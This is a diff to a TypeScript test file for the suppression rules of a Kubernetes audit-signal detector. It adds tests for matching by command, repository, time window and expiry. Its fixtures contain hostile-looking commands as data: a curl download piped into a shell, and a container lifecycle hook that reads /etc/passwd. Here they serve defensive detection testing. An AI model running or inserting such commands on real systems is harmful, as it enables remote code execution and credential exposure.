@@ -3,6 +3,7 @@ import { describe, test } from 'node:test';
 import { activityOf, auditEvent, cronJob, manifestOf, signalOf } from '../../test/support/signals.ts';
 import type { JsonObject } from '../model/json.ts';
 import { createCollector } from './collector.ts';
+import { confirmedBy } from './confirmed.ts';
 import type { Suppression, SuppressionScope } from './suppression.ts';
 
 const now = '2026-11-24T00:00:00Z';
@@ -33,6 +34,17 @@ describe('a scope covers', () => {
     spec: { jobTemplate: { spec: { template: { spec: { containers: [container, sidecar] } } } } },
   });
 
+  const withHook = structuredClone<JsonObject>(cronJob);
+  const lifecycle = { postStart: { exec: { command: ['cat', '/etc/passwd'] } } };
+  Object.assign(withHook, {
+    spec: {
+      schedule: '*/5 * * * *',
+      jobTemplate: { spec: { template: { spec: { containers: [{ ...container, lifecycle }] } } } },
+    },
+  });
+  const elsewhere = { ...cronJob, spec: { ...cronJob.spec, timeZone: 'Europe/Berlin' } };
+  const inBerlin = { requestObject: elsewhere, responseObject: elsewhere };
+
   const table: readonly (readonly [SuppressionScope, boolean, JsonObject?])[] = [
     [{ rules: ['rule-download'] }, true],
     [{ rules: ['Downloads a script *'] }, true],
@@ -52,6 +64,26 @@ describe('a scope covers', () => {
     [{ image: ['ghcr.io/other/*'] }, false],
     [{ image: ['ghcr.io/ops-tools/*'] }, false, { requestObject: withSidecar, responseObject: withSidecar }],
     [{ image: ['*'], kind: ['CronJob'] }, false, metadata],
+    [{ repository: ['ghcr.io/ops-tools/runner'] }, true],
+    [{ repository: ['ghcr.io/ops-tools/run'] }, false],
+    [
+      { repository: ['ghcr.io/ops-tools/runner'] },
+      false,
+      { requestObject: withSidecar, responseObject: withSidecar },
+    ],
+    [{ command: ['sh -c "curl -s https://files.example/r | sh"'] }, true],
+    [{ command: ['sh -c curl -s https://files.example/r | sh'] }, true],
+    [{ command: ['sh -c "curl -s https://files.example/*"'] }, true],
+    [{ command: ['sh -c "curl -s https://other.example/*"'] }, false],
+    [{ command: ['sh *'] }, false, { requestObject: withHook, responseObject: withHook }],
+    [{ command: ['sh *', 'cat /etc/passwd'] }, true, { requestObject: withHook, responseObject: withHook }],
+    [{ command: [''] }, false],
+    [{ command: ['sh *'], kind: ['CronJob'] }, false, metadata],
+    [{ window: ['00:00-23:59'] }, true],
+    [{ window: ['22:00-06:00'] }, false],
+    [{ window: ['00:00-23:59 Europe/Berlin'] }, false],
+    [{ window: ['00:00-23:59'] }, false, inBerlin],
+    [{ window: ['00:00-23:59 Europe/Berlin'] }, true, inBerlin],
     [
       { image: ['*'], kind: ['CronJob'] },
       false,
@@ -104,6 +136,51 @@ test('an expired one hides nothing and is listed as expired', () => {
     assert.equal(target.take(signalOf(activity), activity) !== undefined, expired);
     assert.equal(target.counts().suppressions[0]?.expired, expired);
   }
+});
+
+test('a clock that goes on ends it while it is in use', () => {
+  let time = now;
+  const target = createCollector({
+    now: () => time,
+    suppressions: [suppression({ kind: ['CronJob'] }, { expiresAt: Date.parse('2026-11-25T00:00:00Z') })],
+  });
+  const [first, second] = [activityOf(auditEvent()), activityOf(auditEvent({ auditID: 'another' }))];
+  assert.equal(target.take(signalOf(first), first), undefined);
+  time = '2026-11-25T00:00:00Z';
+  assert.notEqual(target.take(signalOf(second), second), undefined);
+});
+
+test('what is hidden is told, with the suppression that hides it', () => {
+  const told: string[] = [];
+  const target = createCollector({
+    now,
+    suppressions: [suppression({ kind: ['CronJob'] })],
+    onHidden: ({ title }, { id }) => told.push(`${id}: ${title}`),
+  });
+  const activity = activityOf(auditEvent());
+  target.take(signalOf(activity), activity);
+  assert.deepEqual(told, ['s1: Downloads a script and pipes it into a shell']);
+});
+
+test('only a suppression that leaves nothing open confirms a change as usual', () => {
+  const exact: SuppressionScope = {
+    namespace: ['data'],
+    kind: ['CronJob'],
+    name: ['nightly-report'],
+    user: ['dev@corp.example'],
+    repository: ['ghcr.io/ops-tools/runner'],
+    command: ['sh -c curl -s https://files.example/r | sh'],
+  };
+  const activity = activityOf(auditEvent());
+  const confirms = (scope: SuppressionScope): boolean =>
+    confirmedBy([suppression(scope)], () => now)(signalOf(activity), activity);
+  assert.equal(confirms(exact), true);
+  assert.equal(confirms({ ...exact, name: ['nightly-*'] }), false);
+  for (const field of ['namespace', 'kind', 'name', 'user', 'repository', 'command'] as const) {
+    const { [field]: _, ...open } = exact;
+    assert.equal(confirms(open), false, field);
+  }
+  assert.equal(confirms({ ...exact, rules: ['another'] }), false);
 });
 
 test('if the time of now cannot be read, nothing is hidden', () => {
